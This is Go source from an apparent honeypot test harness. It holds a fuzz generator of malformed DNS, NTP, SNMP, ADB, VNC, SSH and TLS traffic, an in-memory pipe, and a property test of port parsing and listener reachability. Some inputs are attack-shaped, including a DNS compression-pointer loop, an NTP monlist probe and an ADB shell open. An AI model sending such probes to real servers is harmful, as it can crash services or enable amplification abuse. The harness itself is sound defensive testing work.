				{0x30, 0x84, 0x00, 0x01, 0x00, 0x00, 0x02, 0x01, 0x01}, {0x1f, 0xff, 0xff, 0xff, 0x7f, 0x00},
			}[r.Intn(12)])
		case 12: // deep nesting
			d := r.Range(10, 400)
			b := BERInt(1)
			for j := 0; j < d; j++ {
				b = BER(0x30, b)
			}
			out = append(out, b)
		case 13: // unbind
			if i == n-1 {
				out = append(out, LDAPMsg(id, BER(0x42)))
			} else {
				out = append(out, LDAPSearch(id, "", LDAPFilterPresent("objectClass")))
			}
		}
		id++
	}
	return out
}

// ---- datagram protocols ----------------------------------------------------

func DNSQuery(id uint16, name string, qtype uint16) []byte {
	b := binary.BigEndian.AppendUint16(nil, id)
	b = append(b, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0)
	for _, l := range strings.Split(name, ".") {
		if l == "" {
			continue
		}
		b = append(b, byte(len(l)))
		b = append(b, l...)
	}
	b = append(b, 0)
	b = binary.BigEndian.AppendUint16(b, qtype)
	b = binary.BigEndian.AppendUint16(b, 1)
	return b
}

func DNSDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	for i := r.Range(1, 3); i > 0; i-- {
		q := DNSQuery(uint16(r.Intn(65536)), r.Alnum(5)+".test", uint16(r.PickI([]int{1, 28, 255, 16, 15})))
		if r.Chance(1, 4) {
			q = append(q[:12], 0xc0, 0x0c, 0, 1, 0, 1) // compression pointer loop
		}
		out = append(out, q)
	}
	return out
}

func TFTPPacket(op int, name, mode string) []byte {
	b := []byte{0, byte(op)}
	b = append(b, name...)
	b = append(b, 0)
	b = append(b, mode...)
	return append(b, 0)
}

func TFTPDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	for i := r.Range(1, 4); i > 0; i-- {
		switch r.Intn(7) {
		case 0:
			out = append(out, TFTPPacket(1, r.Alnum(5), "octet"))
		case 1:
			out = append(out, TFTPPacket(2, r.Alnum(5), "netascii"))
		case 2:
			out = append(out, append([]byte{0, 3, 0, byte(r.Intn(3))}, r.Bytes(r.PickI([]int{0, 1, 511, 512, 513}))...))
		case 3:
			out = append(out, []byte{0, 4, 0, 1})
		case 4:
			out = append(out, []byte{0, 5, 0, 1, 'x', 0})
		case 5:
			out = append(out, [][]byte{{0}, {0, 1}, {0, 1, 'a'}, {0, 2, 'a', 0, 'b'}, {0, 3}, {0, 3, 0}, {0, 9, 1, 2}}[r.Intn(7)])
		case 6:
			out = append(out, TFTPPacket(2, r.Alnum(4), "octet"), append([]byte{0, 3, 0, 1}, r.Bytes(100)...))
		}
	}
	return out
}

func asn1OID(parts ...int) []byte {
	b := []byte{byte(parts[0]*40 + parts[1])}
	for _, p := range parts[2:] {
		if p < 128 {
			b = append(b, byte(p))
		} else {
			b = append(b, byte(0x80|(p>>7)), byte(p&0x7f))
		}
	}
	return BER(0x06, b)
}

func SNMPPacket(version int, community string, pduTag byte, reqID int, oids ...[]byte) []byte {
	var vbs [][]byte
	for _, o := range oids {
		vbs = append(vbs, BER(0x30, o, BER(0x05)))
	}
	pdu := BER(pduTag, BERInt(reqID), BERInt(0), BERInt(0), BER(0x30, vbs...))
	return BER(0x30, BERInt(version), BERStr(community), pdu)
}

func SNMPDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	for i := r.Range(1, 3); i > 0; i-- {
		p := SNMPPacket(r.PickI([]int{0, 0, 0, 1, 3}), r.PickS([]string{"public", "private", ""}), byte(r.PickI([]int{0xa0, 0xa1, 0xa3, 0xa2, 0xa5})), r.Intn(1<<20), asn1OID(1, 3, 6, 1, 2, 1, 1, r.Intn(9), 0))
		if r.Chance(1, 4) {
			p = Mutate(r, p)
		}
		out = append(out, p)
	}
	return out
}

func CounterstrikeDialogue(r *core.Rng) [][]byte {
	var out [][]byte
	for i := r.Range(1, 3); i > 0; i-- {
		q := byte(r.PickI([]int{0x54, 0x55, 0x56, 0x57, 0x69, 0x00}))
		p := append([]byte{0xff, 0xff, 0xff, byte(r.PickI([]int{0xff, 0xff, 0xfe, 0x00}))}, q)
		p = append(p, []byte("Source Engine Query\x00")...)
		if r.Chance(1, 4) {
			p = p[:r.Intn(6)]
		}
		out = append(out, p)
	}
	return out
}

func NTPDialogue(r *core.Rng) [][]byte {
	b := make([]byte, 48)
	b[0] = 0x1b
	if r.Chance(1, 3) {
		b = append([]byte{0x17, 0x00, 0x03, 0x2a}, make([]byte, 4)...) // monlist
	}
	return [][]byte{b}
}

func adbPacket(cmd string, a0, a1 uint32, data []byte) []byte {
	b := []byte(cmd)
	b = binary.LittleEndian.AppendUint32(b, a0)
	b = binary.LittleEndian.AppendUint32(b, a1)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	var crc uint32
	for _, x := range data {
		crc += uint32(x)
	}
	b = binary.LittleEndian.AppendUint32(b, crc)
	for i := 0; i < 4; i++ {
		b = append(b, cmd[i]^0xff)
	}
	return append(b, data...)
}

func ADBDialogue(r *core.Rng) [][]byte {
	out := [][]byte{adbPacket("CNXN", 0x01000000, 4096, []byte("host::\x00"))}
	for i := r.Range(0, 4); i > 0; i-- {
		switch r.Intn(6) {
		case 0:
			out = append(out, adbPacket("OPEN", 1, 0, []byte("shell:\x00")))
		case 1:
			out = append(out, adbPacket("WRTE", 1, 9, []byte("ls\r")))
		case 2:
			out = append(out, adbPacket("OKAY", 1, 9, nil))
		case 3:
			out = append(out, adbPacket("CLSE", 1, 9, nil))
		case 4:
			out = append(out, []byte("WRTE"), []byte("OP"), []byte("OPENxxxx"))
		case 5:
			out = append(out, adbPacket("AUTH", 1, 0, r.Bytes(20)))
		}
	}
	return out
}

func VNCDialogue(r *core.Rng) [][]byte {
	out := [][]byte{[]byte(r.PickS([]string{"RFB 003.008\n", "RFB 003.007\n", "RFB 003.003\n", "RFB 003.008\n", "RFB 004.000\n"}))}
	out = append(out, []byte{1}) // security type none
	out = append(out, []byte{1}) // shared flag
	spf := func(tc byte, bpp byte) []byte {
		return []byte{0, 0, 0, 0, bpp, 24, 0, tc, 0, 255, 0, 255, 0, 255, 16, 8, 0, 0, 0, 0}
	}
	for i := r.Range(1, 6); i > 0; i-- {
		switch r.Intn(7) {
		case 0:
			out = append(out, spf(byte(r.Intn(2)), byte(r.PickI([]int{8, 16, 32, 24, 0, 255}))))
		case 1:
			n := r.PickI([]int{0, 1, 3, 300, 65535})
			b := []byte{2, 0, byte(n >> 8), byte(n)}
			m := n
			if m > 300 {
				m = r.Intn(20)
			}
			out = append(out, append(b, make([]byte, 4*m)...))
		case 2, 3:
			out = append(out, []byte{3, byte(r.Intn(2)), 0, 0, 0, 0, 0, 10, 0, 10})
		case 4:
			out = append(out, []byte{4, 1, 0, 0, 0, 0, 0, 0x41})
		case 5:
			out = append(out, []byte{5, 1, 0, 5, 0, 5})
		case 6:
			out = append(out, []byte{byte(r.PickI([]int{6, 7, 255}))})
		}
	}
	return out
}

func EchoDialogue(r *core.Rng) [][]byte {
	return [][]byte{r.Bytes(r.Range(1, 300))}
}

// SSHRawDialogue is the pre-authentication byte stream only; authenticated
// traffic comes from the "ssh" special scenarios.
func SSHRawDialogue(r *core.Rng) [][]byte {
	out := [][]byte{[]byte(r.PickS([]string{"SSH-2.0-OpenSSH_8.0\r\n", "SSH-1.99-x\r\n", "SSH-2.0-\r\n", "SSH-9\n", strings.Repeat("x", 300) + "\r\n"}))}
	if r.Bool() {
		// a KEXINIT-shaped packet with seeded contents
		pl := append([]byte{20}, r.Bytes(16)...)
		for i := 0; i < 10; i++ {
			s := r.PickS([]string{"curve25519-sha256@libssh.org", "ssh-rsa", "aes128-ctr", "hmac-sha2-256", "none", ""})
			pl = binary.BigEndian.AppendUint32(pl, uint32(len(s)))
			pl = append(pl, s...)
		}
		pl = append(pl, 0, 0, 0, 0, 0)
		pad := 8 - (len(pl)+5)%8
		if pad < 4 {
			pad += 8
		}
		pkt := binary.BigEndian.AppendUint32(nil, uint32(len(pl)+pad+1))
		pkt = append(pkt, byte(pad))
		pkt = append(pkt, pl...)
		pkt = append(pkt, make([]byte, pad)...)
		out = append(out, pkt)
	}
	if r.Bool() {
		out = append(out, r.Bytes(r.Range(1, 64)))
	}
	return out
}

// TLSRawDialogue: record-shaped bytes for the https service (real hellos come
// from the C13 generator through the "tls" special).
func TLSRawDialogue(r *core.Rng) [][]byte {
	rec := func(t byte, body []byte) []byte {
		return append([]byte{t, 3, byte(r.Intn(4)), byte(len(body) >> 8), byte(len(body))}, body...)
	}
	switch r.Intn(5) {
	case 0:
		return [][]byte{rec(22, r.Bytes(r.Range(0, 200)))}
	case 1:
		return [][]byte{rec(22, append([]byte{1, 0, 0, byte(r.Intn(100))}, r.Bytes(r.Range(0, 100))...))}
	case 2:
		return [][]byte{{22, 3, 1, 0xff, 0xff}, r.Bytes(100)}
	case 3:
		return [][]byte{rec(21, []byte{1, 0}), rec(23, r.Bytes(10))}
	default:
		return [][]byte{[]byte("GET / HTTP/1.0\r\n\r\n")}
	}
}

// Services is the C01 quantifier.
func Services() []Service {
	none := func(string) string { return "" }
	return []Service{
		{"adb", "tcp", 5555, none, ADBDialogue, ""},
		{"counterstrike", "udp", 27015, none, CounterstrikeDialogue, ""},
		{"cwmp", "tcp", 7547, none, CWMPDialogue, ""},
		{"dns", "udp", 53, none, DNSDialogue, ""},
		{"docker", "tcp", 2375, none, DockerDialogue, ""},
		{"echo", "tcp", 7007, none, EchoDialogue, ""},
		{"elasticsearch", "tcp", 9200, none, ElasticDialogue, ""},
		{"eos", "tcp", 8888, none, EOSDialogue, ""},
		{"ethereum", "tcp", 8545, none, EthereumDialogue, ""},
		{"ftp", "tcp", 21, func(w string) string { return fmt.Sprintf("fs_base=%q\n", w+"/ftproot") }, FTPDialogue, ""},
		{"http", "tcp", 80, none, HTTPDialogue, ""},
		{"https", "tcp", 443, none, TLSRawDialogue, "tls"},
		{"ipp", "tcp", 631, none, IPPDialogue, ""},
		{"ldap", "tcp", 389, func(string) string { return "credentials=[\"root:root\",\"admin:admin\"]\n" }, LDAPDialogue, ""},
		{"memcached", "tcp", 11211, none, MemcachedLines, ""},
		{"memcached", "udp", 11211, none, MemcachedUDP, ""},
		{"ntp", "udp", 123, none, NTPDialogue, ""},
		{"redis", "tcp", 6379, none, RedisDialogue, ""},
		{"smtp", "tcp", 25, none, SMTPDialogue, ""},
		{"snmp", "udp", 161, none, SNMPDialogue, ""},
		{"ssh-auth", "tcp", 2222, none, SSHRawDialogue, "ssh"},
		{"ssh-simulator", "tcp", 22, func(string) string { return "credentials=[\"root:root\",\"*\"]\n" }, SSHRawDialogue, "ssh"},
		{"telnet", "tcp", 23, none, TelnetDialogue, ""},
		{"tftp", "udp", 69, none, TFTPDialogue, ""},
		{"vnc", "tcp", 5900, func(w string) string { return fmt.Sprintf("image=%q\nserver-name=\"lab\"\n", w+"/vnc.png") }, VNCDialogue, ""},
	}
}
