package lab

import (
	"io"
	"net"
	"os"
	"sync"
	"time"
)

// half is one direction of an in-memory connection: a byte queue with
// blocking reads. Unlike net.Pipe, writes do not wait for the reader (real
// TCP has socket buffers; protocols such as SSH and TLS write before reading
// on both sides), but a reader never receives more than one Read's worth and
// the harness client waits for consumption between segments, so segmentation
// stays under its control.
type half struct {
	mu      sync.Mutex
	cond    *sync.Cond
	buf     []byte
	wclosed bool // writer side closed: EOF after drain
	rclosed bool // reader side closed: writes fail
	// limit > 0: at most this many unread bytes (a receiver with a small window): a writer waits for the reader
	limit int
}

const halfCap = 32 << 20

func newHalf() *half { h := &half{}; h.cond = sync.NewCond(&h.mu); return h }

type bufEnd struct {
	r, w   *half
	mu     sync.Mutex
	rdl    time.Time
	wdl    time.Time
	closed bool
	timers []*time.Timer
}

func bufPipe() (*bufEnd, *bufEnd) {
	a, b := newHalf(), newHalf()
	return &bufEnd{r: a, w: b}, &bufEnd{r: b, w: a}
}

type pipeAddr struct{}

func (pipeAddr) Network() string { return "pipe" }
func (pipeAddr) String() string  { return "pipe" }

func (e *bufEnd) LocalAddr() net.Addr  { return pipeAddr{} }
func (e *bufEnd) RemoteAddr() net.Addr { return pipeAddr{} }

func (e *bufEnd) deadline(read bool) time.Time {
	e.mu.Lock()
	defer e.mu.Unlock()
	if read {
		return e.rdl
	}
	return e.wdl
}

func (e *bufEnd) isClosed() bool { e.mu.Lock(); defer e.mu.Unlock(); return e.closed }

func (e *bufEnd) Read(p []byte) (int, error) {
	h := e.r
	h.mu.Lock()
	defer h.mu.Unlock()
	for {
		if e.isClosed() {
			return 0, io.ErrClosedPipe
		}
		if len(h.buf) > 0 {
			n := copy(p, h.buf)
			h.buf = h.buf[n:]
			if len(h.buf) == 0 {
				h.buf = nil
			}
			h.cond.Broadcast()
			return n, nil
		}
		if h.wclosed {
			return 0, io.EOF
		}
		if d := e.deadline(true); !d.IsZero() && !time.Now().Before(d) {
			return 0, os.ErrDeadlineExceeded
		}
		if len(p) == 0 {
			return 0, nil
		}
		h.cond.Wait()
	}
}

func (e *bufEnd) Write(p []byte) (int, error) {
	h := e.w
	h.mu.Lock()
	defer h.mu.Unlock()
	written := 0
	for {
		if e.isClosed() || h.rclosed {
			return written, io.ErrClosedPipe
		}
		room := halfCap - len(h.buf)
		if h.limit > 0 {
			room = h.limit - len(h.buf)
		}
		if room > 0 {
			// without a limit a write goes in whole; under a limit it goes in as the reader makes room
			n := len(p) - written
			if h.limit > 0 && n > room {
				n = room
			}
			h.buf = append(h.buf, p[written:written+n]...)
			written += n
			h.cond.Broadcast()
			if written == len(p) {
				return written, nil
			}
			continue
		}
		if d := e.deadline(false); !d.IsZero() && !time.Now().Before(d) {
			return written, os.ErrDeadlineExceeded
		}
		h.cond.Wait()
	}
}

// SetWindow limits the bytes this end accepts unread from its peer (0: no limit).
func (e *bufEnd) SetWindow(n int) {
	e.r.mu.Lock()
	e.r.limit = n
	e.r.cond.Broadcast()
	e.r.mu.Unlock()
}

func (e *bufEnd) Close() error {
	e.mu.Lock()
	if e.closed {
		e.mu.Unlock()
		return nil
	}
	e.closed = true
	for _, t := range e.timers {
		if t != nil {
			t.Stop()
		}
	}
	e.mu.Unlock()
	e.w.mu.Lock()
	e.w.wclosed = true
	e.w.cond.Broadcast()
	e.w.mu.Unlock()
	e.r.mu.Lock()
	e.r.rclosed = true
	e.r.cond.Broadcast()
	e.r.mu.Unlock()
	return nil
}

// CloseWrite ends this end's sending direction (a TCP half-close): the peer reads EOF once it has drained
// what was written, while this end can still read.
func (e *bufEnd) CloseWrite() error {
	e.w.mu.Lock()
	e.w.wclosed = true
	e.w.cond.Broadcast()
	e.w.mu.Unlock()
	return nil
}

// wakeAt arranges for the waiters of one direction to look at the deadline when it passes. Only the latest deadline
// of a direction matters: the timer of the previous one is stopped (a handler that sets a deadline before every
// call, in a loop, must not pile up timers here).
func (e *bufEnd) wakeAt(t time.Time, h *half) {
	slot := 0
	if h == e.w {
		slot = 1
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	for len(e.timers) < 2 {
		e.timers = append(e.timers, nil)
	}
	if old := e.timers[slot]; old != nil {
		old.Stop()
		e.timers[slot] = nil
	}
	if t.IsZero() {
		return
	}
	d := time.Until(t)
	if d < 0 {
		d = 0
	}
	e.timers[slot] = time.AfterFunc(d, func() { h.mu.Lock(); h.cond.Broadcast(); h.mu.Unlock() })
}

func (e *bufEnd) SetDeadline(t time.Time) error {
	e.SetReadDeadline(t)
	return e.SetWriteDeadline(t)
}

func (e *bufEnd) SetReadDeadline(t time.Time) error {
	e.mu.Lock()
	e.rdl = t
	e.mu.Unlock()
	e.wakeAt(t, e.r)
	e.r.mu.Lock()
	e.r.cond.Broadcast()
	e.r.mu.Unlock()
	return nil
}

func (e *bufEnd) SetWriteDeadline(t time.Time) error {
	e.mu.Lock()
	e.wdl = t
	e.mu.Unlock()
	e.wakeAt(t, e.w)
	return nil
}
