// Package c19: exactly the well-formed port entries that name a service are
// listened on. A recording listener observes AddAddress; stub probes observe
// reachability; the port-string parser is checked over all 65,536 numbers.
package c19

import (
	"encoding/json"
	"fmt"
	"net"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/server"

	"verif/htlab/internal/core"
	"verif/htlab/internal/lab"
)

type prop struct{}

func init() { core.Register(prop{}) }

func (prop) ID() string    { return "C19" }
func (prop) Level() string { return "exploration" }
func (prop) Rule() string {
	return "scenario = one generated configuration (<=4 [[port]] entries using port and/or ports, strings from a set incl. malformed ones, service lists naming defined, undefined and duplicate stubs) run through the real server.Run with a recording listener, then one probe connection per distinct address; plus the port-string parser over all 65,536 numbers x {tcp,udp} and the malformed set. Non-trivial = the configuration produced >=1 listened address or >=1 rejected entry; distinct by configuration text."
}
func (prop) Assumptions() []string {
	return []string{"IP literals only (no name resolution offline)", "only canonical decimal numerals and clearly malformed strings are generated; forms the statement does not pin (TCP/80, leading blanks, 080, +80, 0.0.0.0) are left out"}
}

var portStrings = []string{"tcp/80", "udp/53", "tcp/0", "tcp/65535", "tcp/65536", "tcp/-1", "tcp/", "80", "tcp", "icmp/1", "tcp/80/1",
	"tcp/127.0.0.1:80", "tcp/127.0.0.2:80", "tcp/:80", "tcp/[::1]:80", "udp/127.0.0.1:53", "tcp/127.0.0.1", "tcp/127.0.0.1:http", "udp/80", "tcp/81", "udp/:53", "", "/80", "tcp/99999999999999999999"}

var defined = []string{"s1", "s2", "s3"}

type entry struct {
	Port     string   `json:"port,omitempty"`
	Ports    []string `json:"ports,omitempty"`
	HasPorts bool     `json:"has_ports"`
	Services []string `json:"services"`
}

type scenario struct {
	Entries []entry `json:"entries"`
}

func mkScenario(seed int64, idx int) scenario {
	r := core.NewRng(seed, "C19", idx)
	var sc scenario
	n := r.Range(1, 4)
	for i := 0; i < n; i++ {
		var e entry
		switch r.Intn(4) {
		case 0, 1:
			e.Port = r.PickS(portStrings)
		case 2:
			e.HasPorts = true
			for j := r.Range(0, 3); j > 0; j-- {
				e.Ports = append(e.Ports, r.PickS(portStrings))
			}
		case 3:
			e.HasPorts = true
			e.Port = r.PickS(portStrings)
			for j := r.Range(1, 2); j > 0; j-- {
				e.Ports = append(e.Ports, r.PickS(portStrings))
			}
		}
		for j := r.PickI([]int{0, 1, 1, 2, 2, 3}); j > 0; j-- {
			e.Services = append(e.Services, r.PickS([]string{"s1", "s2", "s3", "s1", "ghost", "phantom"}))
		}
		sc.Entries = append(sc.Entries, e)
	}
	return sc
}

func config(sc scenario) string {
	var b strings.Builder
	b.WriteString("[listener]\ntype=\"lab\"\n\n[channel.cap0]\ntype=\"lab-capture\"\nid=\"cap0\"\n\n[[filter]]\nchannel=[\"cap0\"]\n\n")
	for _, s := range defined {
		fmt.Fprintf(&b, "[service.%s]\ntype=\"lab-stub-plain\"\nname=%q\n\n", s, s)
	}
	q := func(xs []string) string {
		var o []string
		for _, x := range xs {
			o = append(o, fmt.Sprintf("%q", x))
		}
		return "[" + strings.Join(o, ",") + "]"
	}
	for _, e := range sc.Entries {
		b.WriteString("[[port]]\n")
		if e.Port != "" {
			fmt.Fprintf(&b, "port=%q\n", e.Port)
		}
		if e.HasPorts {
			fmt.Fprintf(&b, "ports=%s\n", q(e.Ports))
		}
		fmt.Fprintf(&b, "services=%s\n\n", q(e.Services))
	}
	return b.String()
}

// ---- reference (from the statement) ------------------------------------------

type addr struct {
	Net  string
	IP   string // "" = unspecified
	Port int
}

func (a addr) String() string { return fmt.Sprintf("%s|%s|%d", a.Net, a.IP, a.Port) }

// refParse: protocol/port or protocol/host:port, protocol tcp|udp, port 0..65535.
func refParse(s string) (addr, bool) {
	i := strings.IndexByte(s, '/')
	if i < 0 || strings.IndexByte(s[i+1:], '/') >= 0 {
		return addr{}, false
	}
	proto, rest := s[:i], s[i+1:]
	if proto != "tcp" && proto != "udp" {
		return addr{}, false
	}
	host, port := "", rest
	if j := strings.LastIndexByte(rest, ':'); j >= 0 {
		host, port = rest[:j], rest[j+1:]
		if strings.HasPrefix(host, "[") && strings.HasSuffix(host, "]") {
			host = host[1 : len(host)-1]
		} else if strings.ContainsAny(host, ":[]") {
			return addr{}, false
		}
		if host != "" && net.ParseIP(host) == nil {
			return addr{}, false
		}
	}
	if port == "" || len(port) > 5 {
		return addr{}, false
	}
	n := 0
	for _, c := range port {
		if c < '0' || c > '9' {
			return addr{}, false
		}
		n = n*10 + int(c-'0')
	}
	if n > 65535 {
		return addr{}, false
	}
	if host != "" {
		host = net.ParseIP(host).String()
	}
	return addr{proto, host, n}, true
}

type listened struct {
	A        addr
	Services []string // defined services in listed order
}

func compatible(a, b addr) bool {
	return a.Net == b.Net && a.Port == b.Port && (a.IP == "" || b.IP == "" || a.IP == b.IP)
}

func refTable(sc scenario) []listened {
	var out []listened
	for _, e := range sc.Entries {
		ports := append([]string(nil), e.Ports...)
		if e.Port != "" {
			ports = append(ports, e.Port)
		}
		var svcs []string
		for _, s := range e.Services {
			for _, d := range defined {
				if s == d {
					svcs = append(svcs, s)
				}
			}
		}
		for _, ps := range ports {
			a, ok := refParse(ps)
			if !ok || len(svcs) == 0 {
				continue
			}
			dup := false
			for _, o := range out {
				if compatible(o.A, a) {
					dup = true
				}
			}
			if dup {
				continue
			}
			out = append(out, listened{a, svcs})
		}
	}
	return out
}

// ---- child ---------------------------------------------------------------------

type scnObs struct {
	Added  []string   `json:"added"`
	Probes []probeObs `json:"probes"`
}
type probeObs struct {
	A      string   `json:"a"`
	Stubs  []string `json:"stubs"`
}

type params struct {
	Mode   string `json:"mode"` // cfg | toaddr
	Offset int    `json:"offset"`
}

func (prop) Plan(tier string, seed int64) []core.Batch {
	n, chunks := 1600, 8
	if tier == "thorough" {
		n, chunks = 40000, 16
	}
	var plan []core.Batch
	per := n / chunks
	for c := 0; c < chunks; c++ {
		p, _ := json.Marshal(params{Mode: "cfg", Offset: c * per})
		plan = append(plan, core.Batch{Name: fmt.Sprintf("cfg/%d", c), N: per, Params: p, Timeout: 900})
	}
	p, _ := json.Marshal(params{Mode: "toaddr"})
	plan = append(plan, core.Batch{Name: "toaddr", N: 1, Params: p, Timeout: 600})
	return plan
}

func addrOf(a net.Addr) addr {
	switch x := a.(type) {
	case *net.TCPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return addr{"tcp", ip, x.Port}
	case *net.UDPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return addr{"udp", ip, x.Port}
	}
	return addr{Net: "?" + a.Network()}
}

func probeTargets(sc scenario) []addr {
	seen := map[string]bool{}
	var out []addr
	add := func(a addr) {
		if a.IP == "" {
			a.IP = "127.0.0.1"
		}
		if !seen[a.String()] {
			seen[a.String()] = true
			out = append(out, a)
		}
	}
	for _, e := range sc.Entries {
		for _, ps := range append(append([]string(nil), e.Ports...), e.Port) {
			if a, ok := refParse(ps); ok {
				add(a)
				add(addr{a.Net, "127.0.0.3", a.Port})
			}
		}
	}
	add(addr{"tcp", "127.0.0.1", 4242})
	return out
}

func (prop) Child(b core.Batch, o *core.Obs) {
	var p params
	b.P(&p)
	if p.Mode == "toaddr" {
		o.Begin(0)
		childToAddr(o)
		o.End(0)
		return
	}
	to := b.To
	if to == 0 {
		to = b.N
	}
	for k := b.From; k < to; k++ {
		sc := mkScenario(b.Seed, p.Offset+k)
		o.Begin(k)
		srv, err := lab.Start(config(sc))
		if err != nil {
			o.Emit(core.Rec{T: "starterr", S: err.Error()})
			o.End(k)
			continue
		}
		var ob scnObs
		for _, a := range srv.L.AddrList() {
			ob.Added = append(ob.Added, addrOf(a).String())
		}
		for i, t := range probeTargets(sc) {
			lab.Stubs.Reset()
			if t.Net == "udp" {
				srv.L.SendUDP(lab.UDPAddr(t.IP, t.Port), lab.UDPAddr("203.0.113.9", 5000+i), []byte("probe"))
				deadline := time.Now().Add(30 * time.Millisecond)
				for lab.Stubs.Len() == 0 && time.Now().Before(deadline) {
					time.Sleep(200 * time.Microsecond)
				}
			} else {
				cc := srv.L.DialTCP(lab.TCPAddr(t.IP, t.Port), lab.TCPAddr("203.0.113.9", 5000+i))
				cl := lab.NewClient(cc)
				cl.Send([]byte("probe"), time.Second)
				cl.Close()
				deadline := time.Now().Add(time.Second)
				for !cc.Srv.Closed() && time.Now().Before(deadline) {
					time.Sleep(200 * time.Microsecond)
				}
			}
			po := probeObs{A: t.String()}
			for _, c := range lab.Stubs.Snapshot() {
				po.Stubs = append(po.Stubs, c.Stub)
			}
			ob.Probes = append(ob.Probes, po)
		}
		srv.Stop()
		o.EmitX("scn", ob)
		o.End(k)
	}
}

type toAddrObs struct {
	Checked    int      `json:"checked"`
	Mismatches []string `json:"mismatches"`
	Accepted   int      `json:"accepted"`
}

func childToAddr(o *core.Obs) {
	var ob toAddrObs
	check := func(s string) {
		ob.Checked++
		a, _, port, err := server.ToAddr(s)
		want, ok := refParse(s)
		got := err == nil && a != nil
		if got != ok {
			ob.Mismatches = append(ob.Mismatches, fmt.Sprintf("%q: implementation accepted=%v reference=%v (err=%v)", s, got, ok, err))
			return
		}
		if !ok {
			return
		}
		ob.Accepted++
		if g := addrOf(a); g != want || port != want.Port {
			ob.Mismatches = append(ob.Mismatches, fmt.Sprintf("%q: implementation parsed %v port %d, reference %v", s, g, port, want))
		}
	}
	for _, proto := range []string{"tcp", "udp"} {
		for n := 0; n < 65536; n++ {
			check(proto + "/" + strconv.Itoa(n))
		}
		for _, n := range []int{0, 1, 80, 65535} {
			check(proto + "/127.0.0.1:" + strconv.Itoa(n))
			check(proto + "/:" + strconv.Itoa(n))
			check(proto + "/[::1]:" + strconv.Itoa(n))
		}
		for _, n := range []string{"65536", "65537", "70000", "99999", "100000", "4294967296", "4294967376", "18446744073709551616", "-1", "-0", "", " 80", "80 ", "0x50", "8o", "１２"} {
			check(proto + "/" + n)
			check(proto + "/127.0.0.1:" + n)
		}
	}
	for _, s := range portStrings {
		check(s)
	}
	for _, s := range []string{"sctp/80", "TCP/80", "tcp//80", "tcp/80/", "/", "//", "tcp/a:b:c", "tcp/[::1]", "tcp/[::1]:", "tcp/::1:80", "tcp/1.2.3:80"} {
		if s == "TCP/80" {
			continue // not pinned by the statement
		}
		check(s)
	}
	if len(ob.Mismatches) > 50 {
		ob.Mismatches = ob.Mismatches[:50]
	}
	o.EmitX("toaddr", ob)
}

// ---- judge ---------------------------------------------------------------------

func (prop) Judge(b core.Batch, recs []core.Rec, exits []core.Exit) []core.Result {
	var p params
	b.P(&p)
	var out []core.Result
	for _, r := range recs {
		switch r.T {
		case "starterr":
			out = append(out, core.Result{K: r.K, Verdict: core.Inconclusive, What: "server did not start: " + r.S})
		case "toaddr":
			var ob toAddrObs
			if r.XInto(&ob) != nil {
				continue
			}
			res := core.Result{K: r.K, Verdict: core.Held, Key: "toaddr-exhaustive", Sample: map[string]interface{}{"mode": "ToAddr", "strings_checked": ob.Checked, "accepted": ob.Accepted, "mismatches": len(ob.Mismatches)}}
			if len(ob.Mismatches) > 0 {
				res.Verdict = core.Violated
				res.Sig = "C19|toaddr|" + sigOfMismatch(ob.Mismatches[0])
				res.What = "port-string parser disagrees with the statement: " + ob.Mismatches[0]
				res.Witness = ob
			}
			out = append(out, res)
		case "scn":
			var ob scnObs
			if r.XInto(&ob) != nil {
				continue
			}
			sc := mkScenario(b.Seed, p.Offset+r.K)
			ref := refTable(sc)
			var want []string
			for _, l := range ref {
				want = append(want, l.A.String())
			}
			got := append([]string(nil), ob.Added...)
			sw, sg := append([]string(nil), want...), append([]string(nil), got...)
			sort.Strings(sw)
			sort.Strings(sg)
			res := core.Result{K: r.K, Verdict: core.Held, Key: "cfg|" + config(sc)}
			res.Sample = map[string]interface{}{"entries": sc.Entries, "listened_on": got, "reference": want}
			if strings.Join(sw, ",") != strings.Join(sg, ",") {
				res.Verdict = core.Violated
				res.Sig = "C19|listen-set|" + diffClass(sw, sg)
				res.What = fmt.Sprintf("listener was asked to listen on %v, the statement gives %v", got, want)
				res.Witness = map[string]interface{}{"config": config(sc), "added": got, "reference": want}
				out = append(out, res)
				continue
			}
			for _, po := range ob.Probes {
				exp := ""
				var pa addr
				f := strings.Split(po.A, "|")
				pa.Net, pa.IP = f[0], f[1]
				pa.Port, _ = strconv.Atoi(f[2])
				for _, l := range ref {
					if l.A.Net == pa.Net && l.A.Port == pa.Port && (l.A.IP == "" || l.A.IP == pa.IP) {
						exp = l.Services[0]
						break
					}
				}
				gotS := strings.Join(po.Stubs, "+")
				if gotS != exp {
					res.Verdict = core.Violated
					res.Sig = "C19|reach|" + reachClass(exp, gotS)
					res.What = fmt.Sprintf("connection to %s reached %q, the statement gives %q", po.A, gotS, exp)
					res.Witness = map[string]interface{}{"config": config(sc), "probe": po, "reference": ref}
					break
				}
			}
			out = append(out, res)
		}
	}
	for _, e := range exits {
		if e.Died() {
			out = append(out, core.Result{K: e.LastBegun, Verdict: core.Inconclusive, What: fmt.Sprintf("child died (%s %s)", e.Class, e.Frame)})
		}
	}
	return out
}

func sigOfMismatch(m string) string {
	if i := strings.Index(m, ":"); i > 0 {
		s := m[:i]
		// class of the string: digits collapsed
		var b strings.Builder
		for _, c := range s {
			if c >= '0' && c <= '9' {
				if !strings.HasSuffix(b.String(), "N") {
					b.WriteByte('N')
				}
			} else {
				b.WriteRune(c)
			}
		}
		return b.String()
	}
	return "?"
}

func diffClass(want, got []string) string {
	w := map[string]int{}
	for _, x := range want {
		w[x]++
	}
	for _, x := range got {
		w[x]--
	}
	missing, extra := 0, 0
	for _, n := range w {
		if n > 0 {
			missing += n
		} else {
			extra -= n
		}
	}
	switch {
	case missing > 0 && extra > 0:
		return "missing-and-extra"
	case missing > 0:
		return "missing"
	default:
		return "extra"
	}
}

func reachClass(exp, got string) string {
	switch {
	case exp == "" && got != "":
		return "unlisted-address-reached-a-service"
	case exp != "" && got == "":
		return "listed-service-not-reached"
	default:
		return "wrong-service"
	}
}
